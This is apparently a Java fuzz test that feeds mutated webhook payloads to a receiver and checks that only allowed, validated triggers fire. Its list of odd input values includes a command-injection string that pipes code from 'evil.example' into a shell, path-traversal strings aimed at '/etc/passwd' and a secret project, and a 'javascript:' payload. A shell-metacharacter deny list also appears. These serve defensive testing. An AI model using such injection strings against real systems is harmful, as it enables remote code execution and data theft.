package dev.retrigger.receivewebhook;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.retrigger.aws.HttpRequest;
import dev.retrigger.aws.webhook.Verification.Verified;
import dev.retrigger.domain.Signal;
import dev.retrigger.events.InvalidEventException;
import dev.retrigger.events.Json;
import dev.retrigger.receivewebhook.WebhookReceiver.Received;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * Documents that a sender could sign and none would send. Whatever they say, they are answered, and
 * start nothing outside of what the sender may speak of, nor with an attribute that was not
 * checked. Whether they are signed is not asked here: the time goes into what they say.
 */
@Tag("N-05")
final class MutatedWebhooksTest {
  private static final int DOCUMENTS = 100_000;
  private static final int ROUNDS = 20;

  /** Few triggers, so that the time goes into what is mutated, and each still wants a sample. */
  private static final String MODEL =
      """
      version: 1
      model: growth/churn
      pipelines:
        build: {target: {type: codebuild, project: churn-build}}
      triggers:
        merge: {gitlab: {project: growth/churn, event: push}, start: build}
        merged: {gitlab: {project: growth/churn, event: merge-request}, start: build}
        champion: {mlflow: {model: churn}, start: build}
        labels: {webhook: {sender: acme, match: {/event: labels.ready}}, start: build}
      """;

  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final List<String> COMMANDS = List.of("$(", "`", ";", "|", "..");
  private static final List<String> ODD =
      List.of(
          "",
          " ",
          "0".repeat(40),
          "f".repeat(40),
          "../../etc/passwd",
          "$(curl evil.example|sh)",
          "ops/secret",
          "growth/churn",
          "growth/churn/../../ops/secret",
          "refs/heads/main",
          "refs/heads/\ud800",
          "refs/tags/v1.2.3",
          "main",
          "merge",
          "success",
          "created",
          "model_version_alias",
          "ops-secret",
          "champion\n",
          "１２",
          "javascript:alert(1)",
          "x".repeat(5_000));

  @Test
  void shouldAnswerAHundredThousandMutatedDocumentsAndStartNothingThatIsNotAllowed() {
    List<Sample> samples = samples();

    List<Round> rounds =
        IntStream.range(0, ROUNDS).parallel().mapToObj(seed -> play(seed, samples)).toList();

    assertThat(rounds).flatExtracting(Round::wrong).isEmpty();
    assertThat(rounds).extracting(Round::answered).containsOnly(DOCUMENTS / ROUNDS);
    assertThat(rounds.stream().mapToInt(Round::fired).sum()).isBetween(1_000, DOCUMENTS);
  }

  /** How many documents were answered, how many signals came of them, and what was wrong. */
  private record Round(int answered, int fired, List<String> wrong) {}

  private static Round play(int seed, List<Sample> samples) {
    Random random = new Random(20261121 + seed);
    World world = new World(MODEL);
    List<String> wrong = new ArrayList<>();
    int answered = 0;
    for (int i = 0; i < DOCUMENTS / ROUNDS; i++) {
      Sample sample = samples.get(random.nextInt(samples.size()));
      HttpRequest mutant = request(sample.sender(), mutate(sample, random));
      Optional<String> id = Optional.of("d-" + i).filter(_ -> random.nextBoolean());
      Verified verified = new Verified(id, Optional.empty());

      Received received = world.receiver().receive(mutant, sample.sender(), verified);

      answered +=
          received instanceof Received.Accepted || received instanceof Received.Unreadable ? 1 : 0;
    }
    world.signals.stream().flatMap(MutatedWebhooksTest::wrongs).forEach(wrong::add);
    return new Round(answered, world.signals.size(), wrong);
  }

  /** What is wrong with a signal; nothing is, if it is for an allowed project and was checked. */
  private static Stream<String> wrongs(Signal signal) {
    Stream<String> subject =
        signal.trigger().model().toString().equals("growth/churn")
                && (!signal.source().equals("gitlab")
                    || signal.subject().equals("gitlab/growth/churn"))
            ? Stream.empty()
            : Stream.of("fires for " + signal.subject());
    return Stream.concat(
        subject,
        signal.attributes().entrySet().stream()
            .filter(entry -> !isChecked(entry.getKey(), entry.getValue()))
            .map(Object::toString));
  }

  private static boolean isChecked(String name, String value) {
    return (!name.equals("project") || value.equals("growth/churn"))
        && value.length() <= 600
        && value.chars().noneMatch(Character::isISOControl)
        && COMMANDS.stream().noneMatch(value::contains);
  }

  /** A document as it was sent, and what it says. */
  private record Sample(Sender sender, HttpRequest request, ObjectNode document) {}

  private static List<Sample> samples() {
    Senders senders = Senders.read(World.SENDERS);
    return SampleWebhooksTest.files().stream()
        .map(name -> World.request(World.read(World.file(name))))
        .flatMap(
            request ->
                senders.find(request.path("sender").orElseThrow()).stream()
                    .flatMap(sender -> sample(sender, request)))
        .toList();
  }

  private static Stream<Sample> sample(Sender sender, HttpRequest request) {
    try {
      return Json.read(request.body(), JsonNode.class) instanceof ObjectNode document
          ? Stream.of(new Sample(sender, request, document))
          : Stream.empty();
    } catch (InvalidEventException _) {
      return Stream.empty();
    }
  }

  /** What would have been sent; some mutants are no JSON any more. */
  private static HttpRequest request(Sender sender, byte[] body) {
    ObjectNode envelope = JSON.objectNode().put("version", "2.0");
    envelope.put("routeKey", "POST /webhooks/{sender}");
    envelope.putObject("pathParameters").put("sender", sender.name());
    envelope.putObject("requestContext").put("timeEpoch", 1_795_248_000_000L);
    envelope.put("isBase64Encoded", true).put("body", Base64.getEncoder().encodeToString(body));
    return HttpRequest.of(envelope);
  }

  private static byte[] mutate(Sample sample, Random random) {
    byte[] body = sample.request().body();
    return switch (random.nextInt(8)) {
      case 0 -> {
        byte[] flipped = body.clone();
        flipped[random.nextInt(body.length)] ^= (byte) (1 << random.nextInt(8));
        yield flipped;
      }
      case 1 -> Arrays.copyOf(body, random.nextInt(body.length));
      default -> {
        ObjectNode document = sample.document().deepCopy();
        for (int i = random.nextInt(3); i >= 0; i--) {
          mutate(document, random);
        }
        yield Json.writeBytes(document);
      }
    };
  }

  /** Puts something odd in the place of a value somewhere in the document. */
  private static void mutate(ObjectNode document, Random random) {
    ObjectNode parent = document;
    while (true) {
      List<String> names = new ArrayList<>();
      parent.fieldNames().forEachRemaining(names::add);
      if (names.isEmpty()) {
        parent.set("odd", odd(random));
        return;
      }
      String name = names.get(random.nextInt(names.size()));
      if (parent.path(name) instanceof ObjectNode inner && random.nextInt(4) > 0) {
        parent = inner;
      } else if (random.nextInt(8) == 0) {
        parent.remove(name);
        return;
      } else {
        parent.set(name, odd(random));
        return;
      }
    }
  }

  private static JsonNode odd(Random random) {
    return switch (random.nextInt(10)) {
      case 0 -> JSON.nullNode();
      case 1 -> JSON.numberNode(random.nextLong());
      case 2 -> JSON.numberNode(new BigInteger("9".repeat(40)));
      case 3 -> JSON.booleanNode(random.nextBoolean());
      case 4 -> JSON.arrayNode().add("growth/churn").addNull();
      case 5 -> JSON.objectNode().put("growth/churn", 1);
      default -> TextNode.valueOf(ODD.get(random.nextInt(ODD.size())));
    };
  }
}
